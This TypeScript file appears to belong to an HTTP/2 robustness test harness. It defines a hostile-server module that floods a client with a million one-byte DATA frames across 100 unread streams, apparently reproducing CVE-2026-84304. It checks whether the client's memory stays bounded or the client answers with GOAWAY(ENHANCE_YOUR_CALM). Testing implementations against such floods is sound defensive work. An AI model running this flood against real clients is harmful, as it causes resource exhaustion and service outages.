// Row 6 against a client: 1-byte DATA frames, a million of them over 100 response streams that their
// callers do not read (CVE-2026-84304).

import type { AttackModule, Hostility } from '../attack.ts';
import type { FloodPlan } from '../measure/flood-plan.ts';
import { floodRow } from '../measure/flood-row.ts';
import type { Row } from '../row.ts';
import { STREAM } from '../runtimes/runtime.ts';
import { data, message } from '../wire/frames.ts';
import { hearRequests, responseHeaders } from '../wire/hostile-server.ts';

const FRAMES = 1_000_000;
const STREAMS = 100;
/** Twice the payload, and 4 MB. */
const MOST_MB = (2 * FRAMES) / 1e6 + 4;
const BYTE = Buffer.of(0);

const flood: Hostility = async (peer, seen) => {
  peer.greet();
  const ids: number[] = [];
  hearRequests(peer, (id) => {
    ids.push(id);
    // A message first, which the caller takes and then reads no more; behind it one that never ends.
    const first = message(Buffer.alloc(1));
    const endless = message(Buffer.alloc(1_000_000)).subarray(0, 5);
    peer.write(Buffer.concat([responseHeaders(id, []), data(id, first), data(id, endless)]));
  });
  await peer.until(() => ids.length >= STREAMS, 5_000);
  seen.streams = ids.length;
  const frames = await peer.flood(FRAMES, (i) => data(ids[i % ids.length] ?? 1, BYTE), {
    batch: 500,
    withinMs: 15_000,
  });
  seen.frames = Number(seen.frames ?? 0) + frames;
  if (peer.goAway !== undefined) seen.goAwayCode = peer.goAway.errorCode;
};

export const hostilities: AttackModule['hostilities'] = { flood };

const PLAN: FloodPlan = {
  row: 6,
  name: 'DATA of one byte, 1,000,000 over 100 streams',
  direction: 'client',
  tls: false,
  expected: 'memory grows by 2x the payload + 4 MB at the most, or GOAWAY(ENHANCE_YOUR_CALM)',
  module: import.meta.url,
  attack: 'flood',
  seconds: 8,
  counters: [],
  mayAct: ['glitches'],
  load: {
    lines: STREAMS,
    kind: 'unread stream',
    path: STREAM,
    request: Buffer.from('1,1'),
    timeoutMs: 9_000,
    restMs: 0,
  },
  judge: ({ seen, heldMB }) => {
    if (seen.goAwayCode === 11) return [];
    if (Number(seen.frames) < FRAMES) return [`${seen.frames} of ${FRAMES} frames were taken`];
    return heldMB > MOST_MB
      ? [`${heldMB.toFixed(1)} MB are held, the bar is ${MOST_MB.toFixed(1)}`]
      : [];
  },
};

export const rows: readonly Row[] = [floodRow(PLAN), floodRow({ ...PLAN, tls: true })];
